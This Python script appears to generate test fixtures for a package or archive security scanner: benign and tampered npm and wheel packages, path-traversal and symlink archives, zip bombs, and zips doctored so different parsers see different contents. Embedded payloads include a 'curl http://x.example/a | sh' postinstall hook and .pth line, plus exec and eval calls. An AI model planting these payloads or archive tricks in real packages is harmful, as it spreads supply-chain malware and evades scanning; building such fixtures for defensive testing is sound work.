"""Makes the archives that the tests read: two versions of a package, and hostile ones."""
import gzip
import io
import os
import sys
import tarfile
import zipfile

RISKY = b"import os\nos.system('curl http://x.example/a | sh')\n"


def tar(path, entries):
    with tarfile.open(path, "w:gz") as archive:
        for name, content in entries:
            info = tarfile.TarInfo(name)
            if isinstance(content, str):
                info.type, info.linkname = tarfile.SYMTYPE, content
                archive.addfile(info)
            else:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))


def packages(folder):
    old = [("pkg-1.0/package.json", b'{"main": "lib/main.js"}'),
           ("pkg-1.0/lib/main.js", b"exports.add = (a, b) => a + b;\n"),
           ("pkg-1.0/lib/old.js", b"eval(process.argv[2]);\n")]
    new = [("pkg-1.1/package.json",
            b'{"main": "lib/main.js", "scripts": {"postinstall": "curl http://x.example/a | sh"}}'),
           ("pkg-1.1/lib/main.js",
            b"// one line down\nexports.add = (a, b) => a + b;\n"
            b"require('child_process').exec('id');\n"),
           ("pkg-1.1/lib/old.js", b"// moved\neval(process.argv[2]);\n")]
    tar(os.path.join(folder, "pkg-1.0.tgz"), old)
    tar(os.path.join(folder, "pkg-1.1.tgz"), new)
    for version, entries in (("1.0", old), ("1.1", new)):
        for name, content in entries:
            path = os.path.join(folder, version, name.split("/", 1)[1])
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as file:
                file.write(content)
    with zipfile.ZipFile(os.path.join(folder, "some-1.0-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("some/__init__.py", RISKY)
        wheel.writestr("some/b\u00e4r.py", b"x = 1\n")
        wheel.writestr("some.pth", b"import os; os.system('curl http://x.example/a | sh')\n")
        wheel.writestr("some/data.bin", b"\0" * 100)


def hostile(folder):
    tar(os.path.join(folder, "names.tgz"),
        [("../up.py", RISKY), ("/etc/root.py", RISKY), ("a/../../b.py", RISKY),
         ("link.py", "/etc/passwd"), ("twice.py", b"x = 1\n"), ("twice.py", RISKY),
         ("bad\udcff.py", RISKY)])
    zeros = b"#" * (17 << 20)
    with zipfile.ZipFile(os.path.join(folder, "large.zip"), "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(40):
            archive.writestr(f"bomb{number:02}.py", zeros)
    # The header says that a file of 8 TiB follows; gzip makes little of it.
    header = tarfile.TarInfo("huge.bin")
    header.size = 8 << 40
    with gzip.open(os.path.join(folder, "huge.tgz"), "wb") as archive:
        archive.write(header.tobuf(tarfile.GNU_FORMAT))
        for _ in range(64):
            archive.write(bytes(1 << 20))
    with open(os.path.join(folder, "pkg-1.0.tgz"), "rb") as whole:
        with open(os.path.join(folder, "half.tgz"), "wb") as half:
            half.write(whole.read()[:150])
    with open(os.path.join(folder, "none.whl"), "wb") as file:
        file.write(b"no archive")
    with open(os.path.join(folder, "empty.zip"), "wb") as file:
        file.write(b"")


def zipped(entries, comment=b""):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        for name, content in entries:
            archive.writestr(name, content)
        archive.comment = comment
    return memory.getvalue()


def disguised(folder):
    """What one reader takes for something else than another does."""
    harmless, risky = zipped([("p/setup.py", b"print(1)\n")]), zipped([("p/setup.py", RISKY)])
    renamed = bytearray(risky)
    renamed[30:40] = b"p/setup.md"
    added = bytearray(zipped([("p/a.txt", b"x"), ("p/b.txt", RISKY)]))
    # The directory has one file less than there are.
    last = added.rindex(b"PK\1\2")
    end = added.rindex(b"PK\5\6")
    del added[last:end]
    end = last
    added[end + 8:end + 12] = b"\1\0\1\0"
    added[end + 12:end + 16] = (end - added.index(b"PK\1\2")).to_bytes(4, "little")
    for name, content in (("before.zip", harmless + risky),
                          ("comment.zip", harmless + zipped([("p/setup.py", RISKY)], b"x" * 40000)),
                          ("renamed.zip", renamed), ("unlisted.zip", added),
                          ("cut.zip", risky[:-30]),
                          ("agreed.zip", zipped([("p/", b""), ("p/b\u00e4r.py", b"x = 1\n")]))):
        with open(os.path.join(folder, name), "wb") as file:
            file.write(content)
    with tarfile.open(os.path.join(folder, "links.tgz"), "w:gz") as archive:
        for name, content in (("p/data.txt", RISKY), ("p/seen.py", b"x = 1\n")):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        for kind, name, target in ((tarfile.LNKTYPE, "p/setup.py", "p/data.txt"),
                                   (tarfile.SYMTYPE, "p/sym.py", "data.txt"),
                                   (tarfile.SYMTYPE, "p/sub/fine.py", "../seen.py"),
                                   (tarfile.LNKTYPE, "p/fine.py", "./p//seen.py"),
                                   (tarfile.SYMTYPE, "p/notes.txt", "data.txt")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
    tar(os.path.join(folder, "dots.tgz"),
        [("package//package.json", b'{"scripts": {"postinstall": "curl http://x.example/a | sh"}}'),
         ("./package/./a.py", b"x = 1\n"), ("package/a.py", RISKY)])


os.makedirs(sys.argv[1], exist_ok=True)
packages(sys.argv[1])
hostile(sys.argv[1])
disguised(sys.argv[1])
